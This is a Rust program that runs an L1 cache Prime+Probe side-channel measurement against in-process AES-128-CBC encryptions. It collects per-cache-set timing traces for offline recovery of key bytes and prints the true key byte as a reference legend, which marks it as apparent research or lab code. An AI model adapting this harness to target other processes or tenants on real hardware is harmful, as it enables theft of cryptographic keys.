//! L1 Prime+Probe against AES-128-CBC encryptions.
//!
//! Each sample primes L1, lets one in-process encryption of a random
//! plaintext run, probes, and dumps the per-set times. The T-table lookups
//! of the first round depend on `pt XOR key`, so with a known plaintext the
//! touched sets leak key-byte information; the heavy lifting of turning the
//! traces into key bits happens offline.

use std::env;
use std::process::exit;

use cache_attacker::{print_banner, print_line, print_results};
use openssl::symm::{Cipher, Crypter, Mode};
use primeprobe_rs::*;
use rand::{thread_rng, Rng};

const CPU_NUMBER: usize = 1;

const IV_LEN: usize = 16;
const KEY_LEN: usize = 16;
// One AES block per encryption keeps the trace to the first rounds.
const PT_LEN: usize = 16;

const MSRMTS_PER_SAMPLE: usize = L1_SETS as usize;

// The key byte whose hex value is printed as the legend for the offline
// analysis.
const TARGET_BYTE: usize = 0;

fn usage(prog: &str) -> ! {
    eprintln!("Usage: {prog} <samples>");
    exit(1);
}

fn main() {
    let args: Vec<String> = env::args().collect();
    if args.len() != 2 {
        usage(&args[0]);
    }
    let sample_cnt: usize = args[1].parse().unwrap_or_else(|_| usage(&args[0]));

    print_line("Initial preparation");
    print_line(&format!("Number of samples: {sample_cnt}"));
    print_line(&format!("Measurements per sample: {MSRMTS_PER_SAMPLE}"));

    let ctx = CacheCtx::new(CacheLevel::L1);
    let cache_ds = prepare_cache_ds(&ctx);
    pin_to_cpu(CPU_NUMBER);

    let mut res = vec![0u32; sample_cnt * MSRMTS_PER_SAMPLE];

    // Random plaintexts and a fixed random key; the IV stays zero since the
    // plaintexts are already randomised.
    let mut rng = thread_rng();
    let mut pt_arr = vec![0u8; PT_LEN * sample_cnt];
    rng.fill(&mut pt_arr[..]);
    let mut key = [0u8; KEY_LEN];
    rng.fill(&mut key[..]);
    let iv = [0u8; IV_LEN];

    print_line(&format!("Legend: key byte: {:#04x}", key[TARGET_BYTE]));

    let cipher = Cipher::aes_128_cbc();
    let mut ct = vec![0u8; PT_LEN + cipher.block_size()];

    print_banner("Start L1 cache attack(s)");

    prepare_measurement();

    let mut curr_head = cache_ds.entry();
    for i in 0..sample_cnt {
        // Key schedule happens outside the measured window.
        let mut crypter = Crypter::new(cipher, Mode::Encrypt, &key, Some(&iv)).unwrap();
        crypter.pad(false);
        let pt = &pt_arr[i * PT_LEN..(i + 1) * PT_LEN];

        unsafe {
            curr_head = prime(curr_head);
            let ct_len = crypter.update(pt, &mut ct).unwrap();
            let next_head = probe(CacheLevel::L1, curr_head);

            assert_eq!(ct_len, PT_LEN);

            get_msrmts_for_all_set(
                curr_head,
                &mut res[i * MSRMTS_PER_SAMPLE..(i + 1) * MSRMTS_PER_SAMPLE],
            );
            curr_head = next_head;
        }
    }

    print_banner("Stop L1 cache attack(s)");

    print_line("Output cache attack data");
    print_results(&res, sample_cnt, MSRMTS_PER_SAMPLE);

    cache_ds.release();
}
